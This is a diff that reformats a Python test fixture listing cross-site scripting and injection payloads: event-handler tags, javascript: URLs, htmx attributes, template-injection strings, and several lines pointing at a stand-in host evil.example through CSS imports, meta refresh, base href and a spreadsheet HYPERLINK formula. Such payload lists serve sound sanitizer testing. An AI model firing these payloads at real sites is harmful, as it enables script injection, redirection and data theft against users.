@@ -10,13 +10,15 @@ _TAGS = (
     "<video><source onerror=\"{}\"></video>", "<audio src=x onerror=\"{}\">", "<marquee onstart=\"{}\">",
     "<a href=\"javascript:{}\" autofocus>x</a>", "<form action=\"javascript:{}\"><button autofocus>x</button></form>",
     "<iframe srcdoc=\"<script>parent.{}</script>\"></iframe>", "<iframe src=\"javascript:parent.{}\"></iframe>",
-    "<object data=\"javascript:{}\"></object>", "<embed src=\"javascript:{}\">", "<math href=\"javascript:{}\">x</math>",
+    "<object data=\"javascript:{}\"></object>", "<embed src=\"javascript:{}\">",
+    "<math href=\"javascript:{}\">x</math>",
     "<template><script>{}</script></template>", "<noscript><script>{}</script></noscript>",
     "<style>@keyframes x{{}}</style><p style=\"animation:x\" onanimationstart=\"{}\">",
     "<svg><animate onbegin=\"{}\" attributeName=x dur=1s>", "<div hx-on:load=\"{}\">", "<div hx-on::load=\"{}\">",
-    "<div hx-get=/runs hx-trigger=load hx-on::after-request=\"{}\">", "<b hx-vals='js:{{a:{}}}' hx-get=/ hx-trigger=load>",
+    "<div hx-get=/runs hx-trigger=load hx-on::after-request=\"{}\">",
+    "<b hx-vals='js:{{a:{}}}' hx-get=/ hx-trigger=load>",
 )  # fmt: skip
-_BREAKS = ("{}", "\"{}", "'{}", "\">{}", "'>{}", "</title>{}", "</textarea>{}", "--!>{}")
+_BREAKS = ("{}", '"{}', "'{}", '">{}', "'>{}", "</title>{}", "</textarea>{}", "--!>{}")
 _OTHERS = (
     "javascript:{}", "{{{{ {} }}}}", "{{% print({}) %}}", "${{{}}}", "\" onmouseover=\"{}\" x=\"",
     "' autofocus tabindex=0 onfocus='{}", "<link rel=stylesheet href=https://evil.example/x.css>",
@@ -24,7 +26,8 @@ _OTHERS = (
     "<meta http-equiv=refresh content='0;url=https://evil.example'>", "<base href=https://evil.example/>",
     "<style>@import 'https://evil.example/x.css';*{{background:url(https://evil.example/x)}}</style>", "<plaintext>",
     "<!--><script>{}</script>-->", "\u202e<script>{}</script>", "\x00<script>{}</script>", "<script>{}\u2028</script>",
-    "<frameset onload=\"{}\">", "<isindex type=image src=1 onerror=\"{}\">", "=HYPERLINK(\"https://evil.example\")", "\U0001f600<svg onload={}>",
+    "<frameset onload=\"{}\">", "<isindex type=image src=1 onerror=\"{}\">", "=HYPERLINK(\"https://evil.example\")",
+    "\U0001f600<svg onload={}>",
 )  # fmt: skip
 
 
